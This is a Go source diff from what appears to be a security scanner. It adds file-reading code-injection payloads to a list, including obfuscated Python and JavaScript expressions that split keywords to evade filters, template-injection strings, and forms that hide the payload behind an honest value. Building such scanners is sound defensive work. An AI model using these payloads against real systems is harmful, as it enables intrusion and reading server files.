@@ -19,9 +19,10 @@ const (
 	javaScript = `import("fs").then(f=>f.readFileSync("@")).catch(()=>0)`
 	// machine leaves a separate context by way of an object that was passed into it.
 	machine = `(p=>p.getBuiltinModule?p.getBuiltinModule("fs"):p.mainModule.require("fs"))(this.constructor.constructor("return process")()).readFileSync("@")`
-	// spelled, escaped, and two forms below avoid the words that a filter may forbid.
+	// spelled, escaped, inParts, and two forms below avoid the words that a filter may forbid.
 	spelled = `globalThis["pro"+"cess"]["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
 	escaped = `this.constructor.constructor("return pro"+"cess")()["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
+	inParts = `getattr(getattr(print,"_"+"_self_"+"_"),"op"+"en")("@")`
 )
 
 // wideNames is python with each name in full width in part, which Python reads as the plain one (NFKC) and a filter does not.
@@ -62,7 +63,10 @@ var codeForms = []form{
 	evaluated("as YAML of Python", `!!python/object/apply:builtins.open ["@"]`),
 	evaluated("as an expression of JavaScript with its words in parts", spelled),
 	evaluated("as an expression of JavaScript for a context of its own, with its words in parts", escaped),
-	evaluated("as an expression of Python with its words in parts", `getattr(getattr(print,"_"+"_self_"+"_"),"op"+"en")("@")`),
+	evaluated("as an expression of Python with its words in parts", inParts),
+	evaluated("in templates of JavaScript with its words in parts", "{{"+spelled+"}} ${"+spelled+"}"),
+	behind("behind the value, as an expression of JavaScript with its words in parts", ","+spelled),
+	behind("behind the value, as an expression of Python with its words in parts", ","+inParts),
 	evaluated("in a template of Jinja with its words in codes", `{{ (cycler|attr("\x5f\x5finit\x5f\x5f")|attr("\x5f\x5fglobals\x5f\x5f")).os.open("@",0) }}`),
 	evaluated("in a template of EJS", `<%= process.getBuiltinModule("fs").readFileSync("@") %>`),
 	evaluated("in a template of Nunjucks", `{{ range.constructor("return process.getBuiltinModule('fs').readFileSync('@')")() }}`),
@@ -123,7 +127,7 @@ func (a Attempt) Formatted() bool {
 var globals = lazyregexp.New(`\{'__name__': '[\w.]{1,64}', '__doc__': `)
 
 const (
-	maxCode       = 88 // attempts on one target
+	maxCode       = 96 // attempts on one target
 	maxCodeFields = 2  // fields for all forms
 	likelyCode    = 4  // forms for the other fields
 )
@@ -193,8 +197,21 @@ func unquoted(name, expression string) form {
 // behind keeps the honest value before the expression, for guards that check the beginning of a value.
 func behind(name, expression string) form {
 	return form{name: name, write: func(f field, m inputs.Mark, number int) string {
-		return f.before + cmp.Or(plain.FindString(f.core()), m.ID()) + strings.ReplaceAll(expression, "@", file(number)) + f.behind
+		return f.before + f.begun(m) + strings.ReplaceAll(expression, "@", file(number)) + f.behind
 	}}
+}
+
+// formula matches values that may be a whole expression.
+var formula = lazyregexp.New(`^[\w\pL\pM./:@%+=,*^() -]+$`)
+
+// begun returns the text before an expression: the honest value if it may be an expression itself, or else its beginning
+// or a name.
+func (f field) begun(m inputs.Mark) string {
+	core := f.core()
+	if formula.MatchString(core) && strings.Count(core, "(") == strings.Count(core, ")") {
+		return core
+	}
+	return cmp.Or(plain.FindString(core), m.ID())
 }
 
 // file returns the file that an expression opens.
